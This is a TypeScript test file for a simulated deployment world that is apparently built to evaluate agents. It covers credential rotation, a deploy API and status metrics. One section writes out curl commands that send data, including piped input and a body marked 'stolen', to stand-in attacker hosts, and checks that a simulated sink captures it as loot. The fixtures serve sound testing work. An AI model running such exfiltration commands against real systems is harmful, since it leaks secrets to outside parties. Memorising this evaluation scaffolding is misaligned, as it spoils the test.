/** The deploy API and what runs behind it: healthy exactly as long as the credential that it got works. */
import { describe, expect, test } from "vitest";
import { addConsumer } from "../../src/world/services/consumers/consumers.ts";
import { loot } from "../../src/world/services/sinks/sinks.ts";
import { emptyWorld, MINUTE, plant, sh } from "./bench.ts";

const HOST = "db.production.lantern-tides.test";

function setting() {
  const world = emptyWorld();
  const grants = { host: HOST, role: "tides_app", database: "tides" };
  const database = plant(world, { id: "prodDb", issuer: "database", grants });
  plant(world, { id: "admin", issuer: "database", grants: { ...grants, role: "postgres", superuser: true } });
  const token = plant(world, {
    id: "deploy",
    issuer: "deploy",
    owner: "ci",
    grants: { services: ["tides-api"] },
  });
  const url = (password: string) => `postgres://tides_app:${password}@${HOST}/tides`;
  addConsumer(world.ports("test"), {
    name: "tides-api",
    source: "secret DATABASE_URL of production",
    config: { database_url: url(database.value) },
  });
  addConsumer(world.ports("test"), { name: "other", source: "none", config: {} });
  const admin = `postgres://postgres:${world.credentials.get("admin")?.value}@${HOST}/tides`;
  return { world, token: token.value, url, admin };
}

const status =
  "curl -s https://status.lantern-tides.test/api/tides-api | jq -c '[.serving, .healthy, .version]'";
const deploy = (token: string, url: string, more = "") =>
  `curl -sS -w '%{http_code}\\n' -o /dev/null ${more} -X POST -H 'Authorization: Bearer ${token}' https://deploy.lantern-tides.test/tides-api -d '{"database_url":"${url}","version":"2.0.0"}'`;

test("a changed password makes it ill, a deploy with the new one well again", async () => {
  const { world, token, url, admin } = setting();
  expect((await sh(world, status)).stdout).toBe('[true,true,"1.0.0"]\n');
  const next = "a-new-password-of-the-role-1";
  await sh(world, `psql ${admin} -c "alter role tides_app password '${next}'"`);
  expect((await sh(world, status)).stdout).toBe('[false,false,"1.0.0"]\n');
  expect((await sh(world, deploy(token, url(next)))).stdout).toBe("200\n");
  expect((await sh(world, status)).stdout).toBe('[true,true,"2.0.0"]\n');
  expect(world.credentials.get("deploy")?.uses.map(({ action, result }) => [action, result])).toEqual([
    ["deploy tides-api", "allowed"],
  ]);
  expect(world.credentials.find("database", next)?.uses.at(-1)).toMatchObject({ address: "203.0.113.60" });
});

describe("what the deploy API answers", () => {
  const cases: readonly (readonly [
    name: string,
    code: string,
    line: (s: ReturnType<typeof setting>) => string,
  ])[] = [
    [
      "a password that does not work: the old one stays",
      "502",
      ({ token, url }) => deploy(token, url("wrong")),
    ],
    ["no URL of a database", "502", ({ token }) => deploy(token, "nonsense")],
    ["a token that nobody issued", "401", ({ url }) => deploy("x".repeat(30), url("p"))],
    [
      "a service that the token may not deploy",
      "403",
      ({ token, url }) => deploy(token, url("p")).replace("/tides-api", "/other"),
    ],
    ["a body that is no JSON", "400", ({ token, url }) => deploy(token, url("p"), "-d x")],
  ];
  test.each(cases)("%s: %s", async (_name, code, line) => {
    const all = setting();
    expect((await sh(all.world, line(all))).stdout).toBe(`${code}\n`);
    expect((await sh(all.world, status)).stdout).toBe('[true,true,"1.0.0"]\n');
    expect(all.world.audit.all().at(-1)?.data).toEqual({ status: Number(code) });
  });

  test("a revoked token is refused, and the use is recorded", async () => {
    const { world, token, url } = setting();
    world.credentials.change("deploy", { status: "revoked" });
    expect((await sh(world, deploy(token, url("p")))).stdout).toBe("401\n");
    expect(world.credentials.get("deploy")?.uses).toMatchObject([{ result: "denied" }]);
  });

  test("curl -f fails as in life", async () => {
    const { world } = setting();
    const { exitCode } = await sh(
      world,
      "curl -fsS -X POST https://deploy.lantern-tides.test/tides-api -d '{}'",
    );
    expect(exitCode).toBe(22);
  });
});

test("looking at the status page changes nothing", async () => {
  const { world } = setting();
  const before = world.tables.digest();
  await world.network.fetch(new Request("https://status.lantern-tides.test/api/tides-api"), {
    address: "203.0.113.20",
    session: null,
  });
  expect(world.tables.digest()).toBe(before);
});

describe("servers of attackers", () => {
  test.each(["198.51.100.7", "collect.magpie.invalid", "magpie.invalid"])(
    "%s keeps what is sent",
    async (host) => {
      const { world } = setting();
      const { stdout } = await sh(world, `curl -s -H 'X-A: b' 'https://${host}/x?y=1' -d 'stolen'`);
      expect(stdout).toBe("ok\n");
      expect(loot(world.tables, "magpie")).toMatchObject([
        {
          host,
          path: "/x?y=1",
          method: "POST",
          body: "stolen",
          from: "203.0.113.20",
          headers: { "x-a": "b" },
        },
      ]);
      expect(loot(world.tables, "cuckoo")).toEqual([]);
    },
  );

  test.each([
    ["--data-binary @-", "a\nb\n"],
    ["-d @-", "ab"],
  ])("curl %s sends what it is given", async (option, body) => {
    const { world } = setting();
    await sh(world, `printf 'a\\nb\\n' | curl -s ${option} https://magpie.invalid/x`);
    expect(loot(world.tables, "magpie")).toMatchObject([{ method: "POST", body }]);
  });

  test("curl takes a name that is no dash for a file", async () => {
    const { world } = setting();
    const { exitCode } = await sh(world, "echo a | curl -s -d @absent https://magpie.invalid/x");
    expect(exitCode).not.toBe(0);
    expect(loot(world.tables, "magpie")).toEqual([]);
  });

  test("nobody else's name is one of them", async () => {
    const { world } = setting();
    const { exitCode } = await sh(world, "curl -s https://magpie.invalid.example/ -d x");
    expect(exitCode).toBe(6);
  });
});

test("a service with load shows its numbers, and who it is when it starts", async () => {
  const world = emptyWorld();
  const token = plant(world, { id: "deployer", issuer: "deploy", owner: "ci" }).value;
  const old = plant(world, { id: "old", issuer: "registry", kind: "npmToken" });
  const next = plant(world, { id: "next", issuer: "registry", kind: "npmToken" });
  addConsumer(world.ports("test"), { name: "site", source: "", load: 6, config: { npm_token: old.value } });
  await world.advance(MINUTE);
  world.credentials.change("old", { status: "revoked" });
  await world.advance(MINUTE / 2);
  const site = "https://status.lantern-tides.test/api/site";
  expect(
    (await sh(world, `curl -s ${site} | jq -c '[.healthy,.requests_total,.failed_total,.failing_since]'`))
      .stdout,
  ).toBe('[false,540,180,"2026-03-03T09:01:00Z"]\n');
  const body = JSON.stringify({ npm_token: next.value, version: "2" });
  const post = `curl -s -X POST -H 'Authorization: Bearer ${token}' https://deploy.lantern-tides.test/site -d '${body}'`;
  expect((await sh(world, post)).stdout).toContain('"healthy":true');
  await world.advance(MINUTE);
  expect(
    (await sh(world, `curl -s '${site}/history?minutes=3' | jq -c 'map([.requests,.failed])'`)).stdout,
  ).toBe("[[360,0],[360,180],[180,0]]\n");
  expect((await sh(world, `curl -s ${site}/outages | jq -c 'map([.from,.to,.failed])'`)).stdout).toBe(
    '[["2026-03-03T09:01:00Z","2026-03-03T09:01:30Z",180]]\n',
  );
  expect((await sh(world, "curl -s https://status.lantern-tides.test/metrics")).stdout).toContain(
    'http_requests_total{service="site",code="503"} 180\n',
  );
  expect((await sh(world, `curl -s '${site}/history?minutes=0'`)).stdout).toContain("minutes is a number");
});
